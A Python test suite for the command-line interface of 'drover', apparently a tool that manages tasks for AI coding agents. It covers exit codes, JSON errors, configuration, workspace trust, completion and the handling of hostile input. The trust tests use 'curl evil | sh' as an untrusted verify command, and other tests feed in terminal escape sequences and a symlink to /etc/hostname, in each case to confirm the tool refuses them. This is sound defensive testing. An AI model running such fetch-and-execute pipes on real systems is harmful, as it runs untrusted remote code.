#!/usr/bin/env python3
"""The verbs as scripts use them: exit codes, JSON, errors, configuration, completion. verbs.py BIN"""
import json
import os
import pathlib
import pty
import shutil
import subprocess
import sys
import tempfile

bin = pathlib.Path(sys.argv[1]).resolve()
drover = str(bin / "drover")
task_keys = {
    "id", "title", "prompt", "state", "waiting", "reason", "badges", "service", "model", "permission", "workspace",
    "base", "branch", "created", "started", "finished", "usage", "cost", "trashed",
}


class Place:
    """A home, a repository and a folder for configuration of their own, for one proof."""

    def __init__(self):
        self.top = pathlib.Path(tempfile.mkdtemp(prefix="drover-verbs-")).resolve()
        self.repository = self.top / "web"
        subprocess.run(["git", "init", "-q", str(self.repository)], check=True)
        (self.top / "elsewhere").mkdir()
        self.environment = {
            "PATH": f"{bin}:{os.environ['PATH']}", "HOME": str(self.top), "DROVER_HOME": str(self.top / "home"),
            "XDG_CONFIG_HOME": str(self.top / "config"), "TERM": "xterm-256color", "LANG": "C.UTF-8",
        }

    def __call__(self, *words, code=0, folder=None, input="", **environment):
        done = subprocess.run(
            [drover, *words], cwd=folder or self.repository, env=self.environment | environment, text=True,
            capture_output=True, timeout=60, input=input)
        assert done.returncode == code, f"{words}: exit {done.returncode}, wanted {code}\n{done.stdout}{done.stderr}"
        if code and not done.stdout.startswith("{") and code != 5 and words[:1] not in [("doctor",)]:
            if done.stderr:
                assert len(done.stderr.strip().splitlines()) == 2, f"{words}: no remedy: {done.stderr}"
        return done.stdout

    def json(self, *words, **options):
        return json.loads(self(*words, "--json", **options))

    def refuses(self, code, name, *words, **options):
        error = self.json(*words, code=code, **options)["error"]
        assert error["code"] == name and error["message"], error
        self(*words, code=code, **options)
        return error

    def configure(self, text):
        folder = self.top / "config" / "drover"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "drover.json").write_text(text)
        return str(folder / "drover.json")


def tasks(at):
    made = at.json("task", "add", "fix the login\nand test it", "--tag", "web,ui", "--priority", "2")
    assert task_keys <= set(made), task_keys - set(made)
    assert (made["id"], made["title"], made["state"], made["trashed"]) == ("T1", "fix the login", "todo", False)
    assert made["created"].endswith("Z") and made["workspace"] == str(at.repository) and made["cost"] is None
    assert at.json("task", "add", "-", input="from a pipe\n")["prompt"] == "from a pipe"
    assert at("task", "add", "--service", "command", "--title", "mod", "--", "./x", "--json").startswith("T3 mod")
    assert [task["id"] for task in at.json("task", "list", "--tag", "ui")] == ["T1"]
    assert len(at.json("task", "list")) == 3 and len(at.json("task", "list", "--limit", "2")) == 2
    assert at.json("task", "list", "--state", "done") == []
    assert at.json("task", "show", made["uid"][:12])["id"] == "T1" == at.json("task", "show", "t1")["id"]
    assert at.json("task", "edit", "T1", "--title", "better", "--priority", "5")["title"] == "better"
    assert at.json("task", "done", "T1")[0]["state"] == "done"
    assert at.json("task", "discard", "T2")[0]["trashed"] is True
    assert at.json("task", "rm", "T3")[0]["trashed"] is True
    assert [task["id"] for task in at.json("task", "list")] == ["T1"]
    assert {task["id"] for task in at.json("task", "list", "--trash")} == {"T2", "T3"}
    assert at.json("task", "restore", "T2", "T3")[0]["trashed"] is False
    assert len(at.json("task", "list")) == 3


def refusals(at):
    at("task", "add", "one")
    at.refuses(3, "notFound", "task", "show", "T9")
    at.refuses(3, "notFound", "task", "done", "T1", "T9")
    assert at.json("task", "show", "T1")["state"] == "todo", "a mistyped id changed another task"
    at("task", "done", "T1")
    at.refuses(4, "refused", "task", "done", "T1")
    at.refuses(4, "refused", "task", "restore", "T1")
    at.refuses(2, "usage", "task", "add")
    at.refuses(2, "usage", "task", "add", "x", folder=at.top / "elsewhere")
    at.refuses(2, "usage", "task", "edit", "T1")
    at.refuses(2, "usage", "task", "add", "x", "--budget", "much")
    at.refuses(2, "usage", "tsak", "list")
    at.refuses(2, "usage", "task", "list", "--state", "open")
    at.refuses(2, "usage", "route")
    at.refuses(3, "notFound", "workspace", "show", "nowhere")
    at("help", "nonsense", code=3)
    at.refuses(2, "usage", "events", "--since", "-5")
    at.refuses(2, "usage", "task", "add", "   ")
    at.refuses(2, "usage", "task", "add", "x", "--prompt", "y")
    at.refuses(3, "notFound", "task", "start", "T1", "T9")
    at.refuses(4, "refused", "task", "done", "T1", "T1")
    for words in (["task", "add", "x"], ["run", "x"], ["task", "edit", "T1"]):
        assert "nobody" in at.refuses(5, "unavailable", *words, "--service", "nobody")["message"], words
    commit(at)
    for words in (["task", "add", "x"], ["run", "x", "--service", "command"], ["task", "edit", "T1"]):
        assert "nowhere" in at.refuses(3, "notFound", *words, "--base", "nowhere")["message"], words
    assert len(at.json("task", "list")) == 1, "what was refused was made"
    at("task", "add", "x", "--base", "task-1", "--after", "T1")


def commit(at):
    subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b.c", "commit", "-q", "--allow-empty", "-m", "x"],
                   cwd=at.repository, check=True)


def nobody(at):
    """An agent that is paid for is not started where its work could not be committed."""
    commit(at)
    agents = at.top / "config" / "drover" / "agents"
    agents.mkdir(parents=True)
    (at.top / "worker").write_text(f"#!/bin/sh\ntouch {at.top}/ran\n")
    (at.top / "worker").chmod(0o755)
    (agents / "worker.json").write_text(json.dumps({
        "name": "worker", "program": str(at.top / "worker"), "dialect": "command", "input": "argument",
        "launch": {"edits": ["{prompt}"]}}))
    at("task", "add", "x", "--service", "worker", GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_SYSTEM="/dev/null")
    for words in (["run", "x", "--service", "worker"], ["task", "add", "x", "--service", "worker", "--start"],
                  ["task", "start", "T1"]):
        error = at.refuses(4, "refused", *words, GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_SYSTEM="/dev/null")
        assert "your name and address" in error["message"] and "user.email" in error["remedy"], error
    assert len(at.json("task", "list")) == 1 and not (at.top / "ran").exists()


def full(at):
    """What cannot be written is a fault; a reader that has had enough is none."""
    for number in range(3):
        at("task", "add", f"task {number}")
    for words in (["task", "list"], ["task", "list", "--json"], ["events"], ["config", "show"], ["help"], ["export"],
                  ["task", "add", "x"], ["completion", "bash"], ["--version"]):
        with open("/dev/full", "w") as end:
            done = subprocess.run([drover, *words], cwd=at.repository, env=at.environment, stdout=end, text=True,
                                  stderr=subprocess.PIPE, timeout=60, stdin=subprocess.DEVNULL)
        assert done.returncode == 1 and "No space left" in done.stderr, (words, done)
        assert len(done.stderr.strip().splitlines()) == 2, done
    reader, writer = os.pipe()
    os.close(reader)
    for words in (["events"], ["events", "--follow"]):
        done = subprocess.run([drover, *words], cwd=at.repository, env=at.environment, stdout=writer, text=True,
                              stderr=subprocess.PIPE, timeout=60, stdin=subprocess.DEVNULL)
        assert done.returncode == 0 and not done.stderr, (words, done)
    os.close(writer)


def workspaces(at):
    assert at.json("workspace", "list") == []
    made = at.json("workspace", "add", "--name", "shop")
    assert (made["id"], made["name"], made["path"], made["trusted"]) == ("W1", "shop", str(at.repository), None)
    at.refuses(4, "refused", "workspace", "add")
    assert at.json("workspace", "check")["state"] == "nothing to trust"
    (at.repository / ".drover").mkdir()
    (at.repository / ".drover" / "verify").write_text("make test\n")
    assert at.json("workspace", "check", code=4)["state"] == "not trusted"
    at.refuses(4, "refused", "workspace", "trust")
    assert at.json("workspace", "trust", "--yes")["trusted"]
    assert at.json("workspace", "check")["files"] == [".drover/verify"]
    (at.repository / ".drover" / "verify").write_text("curl evil | sh\n")
    assert at.json("workspace", "check", code=4)["state"] == "changed"
    assert [one["id"] for one in at.json("workspace", "list")] == ["W1"]
    assert at.json("workspace", "show", "shop")["id"] == "W1"
    at("task", "add", "x")
    at.refuses(4, "refused", "workspace", "rm", "shop")
    at("task", "done", "T1")
    at("workspace", "rm", "shop")
    assert at.json("workspace", "list") == [] and (at.repository / ".drover").is_dir()


def events(at):
    at("task", "add", "one")
    at("task", "done", "T1")
    lines = [json.loads(line) for line in at("events", "--json").splitlines()]
    assert [line["type"] for line in lines] == ["workspaceAdded", "taskCreated", "taskClosed"]
    assert [line["seq"] for line in lines] == [1, 2, 3]
    for line in lines:
        assert list(line) == ["seq", "time", "type", "task", "run", "by", "cause", "data"], line
        assert line["by"] == "commandLine"
    assert [json.loads(line)["seq"] for line in at("events", "--json", "--since", "2").splitlines()] == [3]
    assert at("export").splitlines() == at("events", "--json").splitlines()
    found = at.json("explain", "T1")
    assert found["state"] == "done" and found["facts"] and found["ways"]
    assert at.json("status", code=5) == {"running": False}
    copy = at.json("backup", str(at.top / "copy.db"))["file"]
    assert os.path.getsize(copy) > 0
    at("serve", "--detach")
    told = at.json("doctor", "--fix")
    assert not [one for one in told if one["grade"] == "fault"], told
    assert any("nothing was mended" in one["message"] and "drover stop" in one["remedy"] for one in told), told
    at("task", "reopen", "T1")
    assert at.json("task", "show", "T1")["state"] == "todo"
    at.refuses(4, "refused", "task", "reopen", "T1")
    at("stop")
    before = os.stat(copy).st_mtime_ns
    at.refuses(4, "refused", "backup", copy)
    at.refuses(4, "refused", "backup", str(at.top))
    at.refuses(3, "notFound", "backup", str(at.top / "nowhere" / "copy.db"))
    assert os.stat(copy).st_mtime_ns == before


def configuration(at):
    rows = {row["key"]: row for row in at.json("config", "show", "--origin")}
    assert rows["ui.theme"] == {"key": "ui.theme", "value": "auto", "origin": "built in"}
    path = at("config", "init").strip()
    assert pathlib.Path(path).is_file() and at.json("config", "check")["valid"] is True
    at.refuses(4, "refused", "config", "init")
    path = at.configure('{\n  // mine\n  "ui": {\n    "theme": "dark",\n  },\n}\n')
    rows = {row["key"]: row for row in at.json("config", "show", "--origin", DROVER__UI__MOUSE="false")}
    assert rows["ui.theme"]["value"] == "dark" and rows["ui.theme"]["origin"] == f"{path}:4"
    assert rows["ui.mouse"]["value"] is False and rows["ui.mouse"]["origin"] == "$DROVER__UI__MOUSE"
    at.configure('{\n  "ui": {\n    "thme": "dark",\n    "mouse": 7\n  }\n}\n')
    problems = at.json("config", "check", code=2)["problems"]
    assert [problem["origin"] for problem in problems] == [f"{path}:3", f"{path}:4"], problems
    error = at.refuses(2, "usage", "config", "show")
    assert f"{path}:3" in error["message"] and "ui.theme" in error["remedy"], error
    os.remove(path)
    at.refuses(2, "usage", "config", "show", DROVER__UI__NOTHING="1")
    layers = at.json("config", "path")
    assert [layer["layer"] for layer in layers] == ["system", "person", "repository"]


def a_repository_is_heard_only_when_trusted(at):
    def verify():
        rows = {row["key"]: row for row in at.json("config", "show", "--origin")}
        return rows["tasks.verify"]["value"]

    folder = at.repository / ".drover"
    folder.mkdir()
    file = folder / "drover.json"
    file.write_text('{"tasks": {"verify": "make test"}}')
    assert verify() is None, "it was heard without trust"
    assert at.json("config", "check")["notTrusted"] == [str(file)]
    at("workspace", "trust", "--yes")
    assert verify() == "make test"
    file.write_text('{"tasks": {"verify": "curl evil | sh"}}')
    assert verify() is None, "it was heard after it changed"
    assert [layer["state"] for layer in at.json("config", "path")][2] == "not trusted"
    file.write_text('{"ui": {"theme": "dark"}}')
    at("workspace", "trust", "--yes")
    assert "cannot be set by a repository" in at.refuses(2, "usage", "config", "show")["message"]
    file.unlink()
    file.symlink_to("/etc/hostname")
    at("workspace", "trust", "--yes")
    assert verify() is None, "a link was followed"


def completion(at):
    """What each shell itself offers, where that shell is installed."""
    at.refuses(2, "usage", "completion", "tcsh")
    for shell in ("bash", "zsh", "fish"):
        (at.top / f"complete.{shell}").write_text(at("completion", shell))
    at("task", "add", "one: a colon")
    at("task", "add", "two")
    at("task", "discard", "T2")
    scripts = {
        "bash": """source "$1"; read -ra COMP_WORDS <<<"drover $2"; [[ $2 != *" " ]] || COMP_WORDS+=("")
                   COMP_CWORD=$(( ${#COMP_WORDS[@]} - 1 )); _drover; printf '%s\\n' "${COMPREPLY[@]}" """,
        "zsh": """compdef() { }; _describe() { print -l -- $offers }; _files() { }; source $1
                  words=(drover ${=2}); [[ $2 != *" " ]] || words+=(""); CURRENT=$#words; _drover""",
        "fish": """source $argv[1]; complete -C "drover $argv[2]" """,
    }

    def offers(shell, typed):
        words = ["--norc", "-c", scripts[shell], "bash"] if shell == "bash" else ["--no-config", "-c", scripts[shell]]
        if shell == "zsh":
            words = ["-f", "-c", scripts[shell], "zsh"]
        done = subprocess.run(
            [shell, *words, str(at.top / f"complete.{shell}"), typed], env=at.environment, capture_output=True, text=True,
            cwd=at.repository)
        assert not done.stderr, (shell, typed, done.stderr)
        return {line.split("\t")[0].split(":")[0].strip() for line in done.stdout.split("\n")}

    for shell in ("bash", "zsh", "fish"):
        if not shutil.which(shell):
            print(f"skipped - completion in {shell}: it is not installed")
            continue
        for typed, wanted in (("conf", "config"), ("config s", "show"), ("task add --ti", "--title"), ("task show ", "T1"),
                              ("task wait T1 T", "T1"), ("task add x --after ", "T1"), ("task list --state ", "review"),
                              ("run --service ", "claude"), ("workspace show ", "W1"), ("budget set ", "day"),
                              ("task restore ", "T2"), ("help task ", "show"), ("run x --race claude,", "claude,codex")):
            assert wanted in offers(shell, typed), (shell, typed, offers(shell, typed))


def words_and_colours(at):
    assert at("--version").startswith("drover ") and at("help").count("\n") > 20
    assert "config show" in at("help") and ".TH DROVER 1" in at("help", "--man")
    at("task", "add", "an \x1b[31mevil\x1b]0;title\x07 one")
    for extra in [{}, {"NO_COLOR": "1"}]:
        leader, follower = pty.openpty()
        done = subprocess.run(
            [drover, "task", "list"], cwd=at.repository, env=at.environment | extra, stdout=follower, timeout=60)
        os.close(follower)
        shown = b""
        while True:
            try:
                part = os.read(leader, 65536)
            except OSError:
                break
            if not part:
                break
            shown += part
        os.close(leader)
        assert done.returncode == 0 and b"\x1b]0" not in shown and b"\x07" not in shown, shown
        if extra:
            assert b"\x1b" not in shown, shown
    assert "\x1b" not in at("task", "list") and "\x1b" not in at("task", "show", "T1")


def hostile_words(at):
    """Words that nobody means: each is one sentence and a remedy, and what is made stays on its line."""
    assert "makes the first" in at("task", "list")
    commit(at)
    at("task", "add", "one", "--title", "a\tb\nc", "--tag", "u\nv")
    assert "a b c" in at("task", "list") and at.json("task", "show", "T1")["title"] == "a b c"
    assert "no task is like that" in at("task", "list", "--tag", "nope") and "empty" in at("task", "list", "--trash")
    assert at.json("task", "edit", "T1", "--title", " ")["title"] == "one"
    for words in (["task", "show", ""], ["task", "start", ""], ["attach", ""], ["service", "show", ""], ["workspace", "add", ""],
                  ["task", "add", "x", "--after", ""], ["task", "add", "x", "--workspace", ""], ["run", "x", "--race", ""], ["session", "new", "x", "--service", ""],
                  ["task", "wait", "T1", "--timeout", "-1"], ["-x"], ["--nope"]):
        at.refuses(2, "usage", *words)
    for word in ("T1\nT1", "\x1b[2Jx", "T" + "9" * 40, "x" * 100_000, "-1", "\u202ex"):
        at.refuses(3, "notFound", "task", "show", word)
    assert len(at.json("task", "list")) == 1, "what was refused was made"


def closed_streams(at):
    """A stream that is closed, full or cut off: nothing of ours takes its place, and nobody waits."""
    at("task", "add", "one")
    def shell(line, code):
        done = subprocess.run(["bash", "-c", line], cwd=at.repository, env=at.environment | {"D": drover}, text=True,
                              capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
        assert done.returncode == code, (line, done)
        return done.stdout + done.stderr
    for line in ('"$D" task list >&-', '"$D" events --json >&-', '"$D" task list >/dev/full', '"$D" help >&-'):
        assert "failed to write to standard output" in shell(line, 1), line
    shell('"$D" task list <&- >&- 2>&-', 1)
    shell('"$D" task show T9 2>&-', 3)
    shell('"$D" task list <&-', 0)
    shell('"$D" task add - <&-', 2)
    shell('set -o pipefail; "$D" help | true', 0)
    shell('set -o pipefail; "$D" events --json | head -n 1', 0)
    assert len(at.json("task", "list")) == 1 and at.json("doctor")


def ends_of_the_world(at):
    for number in range(30):
        at("task", "add", f"task {number} " + "x" * 200)
    writer = subprocess.Popen(
        [drover, "events", "--json"], cwd=at.repository, env=at.environment, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE)
    writer.stdout.close()
    errors = writer.stderr.read()
    assert writer.wait(60) in (0, 1) and b"atal" not in errors, (writer.returncode, errors)
    at(code=2, input="")
    at.refuses(2, "usage", "task", "add", "-", input="x" * (1 << 21))
    at.refuses(2, "usage", "task", "list", "--limit", "99999999999999999999")
    subprocess.run([drover, "task", "show", b"\xff\xfe"], cwd=at.repository, env=at.environment, capture_output=True)
    at.refuses(2, "usage", "task", "list", DROVER_HOME="", XDG_STATE_HOME="", HOME="")


def main():
    proofs = [
        tasks, refusals, nobody, full, workspaces, events, configuration, a_repository_is_heard_only_when_trusted, completion,
        words_and_colours, hostile_words, closed_streams, ends_of_the_world,
    ]
    wanted, passed, failed = sys.argv[2:], 0, 0
    for proof in proofs:
        if wanted and proof.__name__ not in wanted:
            continue
        at = Place()
        name = proof.__name__.replace("_", " ")
        try:
            proof(at)
            print(f"ok - {name}", flush=True)
            passed += 1
        except Exception as fault:
            line = fault.__traceback__.tb_next.tb_lineno if fault.__traceback__.tb_next else 0
            print(f"not ok - {name}, line {line}: {type(fault).__name__} {fault}", flush=True)
            failed += 1
        finally:
            shutil.rmtree(at.top, ignore_errors=True)
    print(f"{passed} passed, {failed} failed")
    sys.exit(1 if failed else 0)


main()
